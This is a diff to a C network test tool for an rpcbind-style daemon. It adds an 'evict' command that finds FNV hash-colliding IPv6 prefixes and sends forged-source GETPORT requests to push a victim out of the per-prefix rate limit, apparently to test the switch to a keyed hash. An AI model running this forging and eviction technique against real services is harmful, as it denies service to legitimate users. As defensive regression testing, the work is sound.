@@ -23,6 +23,16 @@
  *                           TOTAL v2 GETPORTs over UDP spread over one
  *                           second, round robin from NADDR sockets bound to
  *                           SRC, SRC+1, ... (IPv4); counts the answers
+ *   evict HOST VICTIM NCHURN SECS
+ *                           the eviction attack on the per-prefix rate
+ *                           limit (IPv6): every 20 ms for SECS, 20 v2
+ *                           GETPORTs from VICTIM (a local address), then
+ *                           one from each of 8 /56s that an unkeyed FNV
+ *                           table (rpcbindd before its keyed hash) puts in
+ *                           the victim's slots, and NCHURN / SECS / 50 from
+ *                           NCHURN other /56s, all forged in
+ *                           2001:db8:8000::/33 (IPV6_FREEBIND + PKTINFO);
+ *                           counts the replies that reach the victim
  *   spoof SRC SPORT DST WHAT  one raw IPv4/UDP datagram to DST:111 with the
  *                           forged source SRC:SPORT (WHAT: getport, dump,
  *                           set, unset, null)
@@ -67,6 +77,11 @@
 #define MAX_SOCKS	64		/* sweep entries, storm sources */
 #define MAX_FLOOD	1000000u
 #define MAX_STORM	5000u
+#define MAX_CHURN	200000u
+#define EVICT_ROUND_MS	20		/* evict: one round of the attack */
+#define EVICT_VICTIM	20		/* evict: victim lookups per round */
+#define EVICT_WINDOW	8		/* evict: the old table's probe window */
+#define EVICT_TABLE	4096u		/* evict: the old table's size */
 
 /* accept_stat / reject_stat / auth_stat names used in the result line */
 #define RS_ACCEPTED	0u
@@ -1049,6 +1064,168 @@ cmd_storm(const char *host, const char *src, unsigned long naddr, unsigned long 
 	return 0;
 }
 
+/* --------------------------------------------------------------- evict */
+
+/* Source /56 number n of a region (0x80: colliders, 0xc0: churn) of
+ * 2001:db8:8000::/33, host ::5. */
+static void
+evict_src(struct in6_addr *a, uint8_t region, uint32_t n)
+{
+	memset(a, 0, sizeof *a);
+	a->s6_addr[0] = 0x20;
+	a->s6_addr[1] = 0x01;
+	a->s6_addr[2] = 0x0d;
+	a->s6_addr[3] = 0xb8;
+	a->s6_addr[4] = (uint8_t)(region | ((n >> 16) & 0x3f));
+	a->s6_addr[5] = (uint8_t)(n >> 8);
+	a->s6_addr[6] = (uint8_t)n;
+	a->s6_addr[15] = 5;
+}
+
+/* The slot the unkeyed table gave a /56: FNV-1a of family and 7 bytes. */
+static uint32_t
+fnv_home(const struct in6_addr *a)
+{
+	uint8_t k[8] = { AF_INET6 };
+	uint32_t h = 2166136261u;
+
+	memcpy(k + 1, a->s6_addr, 7);
+	for (int i = 0; i < 8; i++)
+		h = (h ^ k[i]) * 16777619u;
+	return h % EVICT_TABLE;
+}
+
+static void
+send_from(int fd, const struct in6_addr *src, const union sa *dst, const struct wb *w)
+{
+	union {
+		struct cmsghdr h;
+		uint8_t b[CMSG_SPACE(sizeof(struct in6_pktinfo))];
+	} cm;
+	struct iovec iov = { (void *)w->b, w->n };
+	struct msghdr mh = { .msg_name = (void *)&dst->in6, .msg_namelen = sizeof dst->in6,
+	    .msg_iov = &iov, .msg_iovlen = 1, .msg_control = cm.b,
+	    .msg_controllen = sizeof cm.b };
+	struct cmsghdr *c;
+	struct in6_pktinfo pi;
+
+	memset(&cm, 0, sizeof cm);
+	memset(&pi, 0, sizeof pi);
+	pi.ipi6_addr = *src;
+	c = CMSG_FIRSTHDR(&mh);
+	c->cmsg_level = IPPROTO_IPV6;
+	c->cmsg_type = IPV6_PKTINFO;
+	c->cmsg_len = CMSG_LEN(sizeof pi);
+	memcpy(CMSG_DATA(c), &pi, sizeof pi);
+	if (sendmsg(fd, &mh, 0) != (ssize_t)w->n)
+		die("sendmsg from a forged source: %s", strerror(errno));
+}
+
+static int
+cmd_evict(const char *host, const char *victim, unsigned long nchurn, unsigned long secs)
+{
+	union sa dst, v;
+	socklen_t dlen = parse_addr(host, PMAP_PORT, &dst);
+	const struct callspec c = { W_GETPORT, 100005, 3, "tcp" };
+	struct in6_addr col[EVICT_WINDOW];
+	static bool seen[(RUN_LIMIT * 1000 / EVICT_ROUND_MS + 1) * EVICT_VICTIM];
+	unsigned long rounds = secs * 1000 / EVICT_ROUND_MS, vsent = 0, answered = 0;
+	unsigned long csent = 0, churned = 0, per_round;
+	uint32_t vhome, xid0, n;
+	int vfd, ffd, one = 1, k = 0;
+	int64_t t0, tlast = 0, end;
+	bool rf;
+
+	if (parse_addr(victim, 0, &v) != sizeof v.in6 || dst.sa.sa_family != AF_INET6)
+		die("evict: IPv6 only");
+	if (secs == 0 || secs > RUN_LIMIT - 10 || nchurn > MAX_CHURN)
+		die("evict: 1-%d s, at most %u churning prefixes", RUN_LIMIT - 10, MAX_CHURN);
+	/* The attacker's offline work against the unkeyed table. */
+	vhome = fnv_home(&v.in6.sin6_addr);
+	for (n = 0; n < (1u << 22) && k < EVICT_WINDOW; n++) {
+		evict_src(&col[k], 0x80, n);
+		if (fnv_home(&col[k]) == vhome)
+			k++;
+	}
+	if (k < EVICT_WINDOW)
+		die("evict: no %d colliding prefixes", EVICT_WINDOW);
+	vfd = open_to(SOCK_DGRAM, &dst, dlen, victim, false, &rf);
+	if (vfd == -1)
+		die("udp socket from %s: %s", victim, strerror(errno));
+	ffd = socket(AF_INET6, SOCK_DGRAM | SOCK_CLOEXEC, 0);
+	if (ffd == -1 || setsockopt(ffd, IPPROTO_IPV6, IPV6_FREEBIND, &one, sizeof one) == -1)
+		die("forging socket: %s", strerror(errno));
+	per_round = rounds > 0 ? (nchurn + rounds - 1) / rounds : 0;
+	xid0 = xid_seq + 1;
+	t0 = now_ms();
+	for (unsigned long r = 0; r < rounds; r++) {
+		int64_t due = t0 + (int64_t)(r * EVICT_ROUND_MS);
+		struct wb w;
+
+		while (now_ms() < due) {
+			struct pollfd pfd = { vfd, POLLIN, 0 };
+			int left = (int)(due - now_ms());
+
+			if (poll(&pfd, 1, left > 0 ? left : 0) == 1)
+				break;
+		}
+		/* the victim's lookups (as the attacker would forge them) */
+		for (int i = 0; i < EVICT_VICTIM; i++) {
+			build(&w, 2, 3, &c, &dst);
+			if (send(vfd, w.b, w.n, 0) == (ssize_t)w.n)
+				vsent++;
+		}
+		tlast = now_ms();
+		/* drain what came back so far */
+		for (int i = 0; i < 4 * EVICT_VICTIM; i++) {
+			ssize_t g = recv(vfd, rbuf, sizeof rbuf, MSG_DONTWAIT);
+			uint32_t x;
+
+			if (g < 4)
+				break;
+			x = be32(rbuf) - xid0;
+			if (x < sizeof seen && !seen[x]) {
+				seen[x] = true;
+				answered++;
+			}
+		}
+		sleep_us(2000);
+		/* 8 forged lookups that push the oldest of the window out */
+		for (int i = 0; i < EVICT_WINDOW; i++) {
+			build(&w, 2, 3, &c, &dst);
+			send_from(ffd, &col[i], &dst, &w);
+			csent++;
+		}
+		for (unsigned long i = 0; i < per_round && churned < nchurn; i++) {
+			struct in6_addr a;
+
+			evict_src(&a, 0xc0, (uint32_t)churned++);
+			build(&w, 2, 3, &c, &dst);
+			send_from(ffd, &a, &dst, &w);
+		}
+	}
+	end = now_ms() + tmo_ms;
+	for (int i = 0; i < 100000; i++) {
+		long g = recv_dgram(vfd, rbuf, sizeof rbuf, end);
+		uint32_t x;
+
+		if (g == GOT_NONE || g == GOT_CLOSED || g == GOT_REFUSED)
+			break;
+		if (g < 4)
+			continue;
+		x = be32(rbuf) - xid0;
+		if (x < sizeof seen && !seen[x]) {
+			seen[x] = true;
+			answered++;
+		}
+	}
+	close(vfd);
+	close(ffd);
+	printf("victim sent %lu answered %lu in %lld ms colliders %lu churn %lu\n", vsent,
+	    answered, (long long)(tlast - t0), csent, churned);
+	return 0;
+}
+
 /* --------------------------------------------------------------- spoof */
 
 static uint16_t
@@ -1171,6 +1348,7 @@ usage(void)
 	    "  flood HOST COUNT SECS\n"
 	    "  latency HOST SECS [GAP_MS]\n"
 	    "  storm HOST SRC NADDR TOTAL\n"
+	    "  evict HOST VICTIM NCHURN SECS\n"
 	    "  spoof SRC SPORT DST getport|dump|set|unset|null\n"
 	    "  listen ADDR PORT MS\n", stderr);
 	exit(2);
@@ -1209,6 +1387,8 @@ main(int argc, char **argv)
 		return cmd_latency(argv[1], num(argv[2], RUN_LIMIT - 5), argc == 4 ? num(argv[3], 1000) : 10);
 	if (strcmp(argv[0], "storm") == 0 && argc == 5)
 		return cmd_storm(argv[1], argv[2], num(argv[3], MAX_SOCKS), num(argv[4], MAX_STORM));
+	if (strcmp(argv[0], "evict") == 0 && argc == 5)
+		return cmd_evict(argv[1], argv[2], num(argv[3], MAX_CHURN), num(argv[4], RUN_LIMIT - 10));
 	if (strcmp(argv[0], "spoof") == 0 && argc == 5)
 		return cmd_spoof(argv[1], num(argv[2], 65535), argv[3], argv[4]);
 	if (strcmp(argv[0], "listen") == 0 && argc == 4)
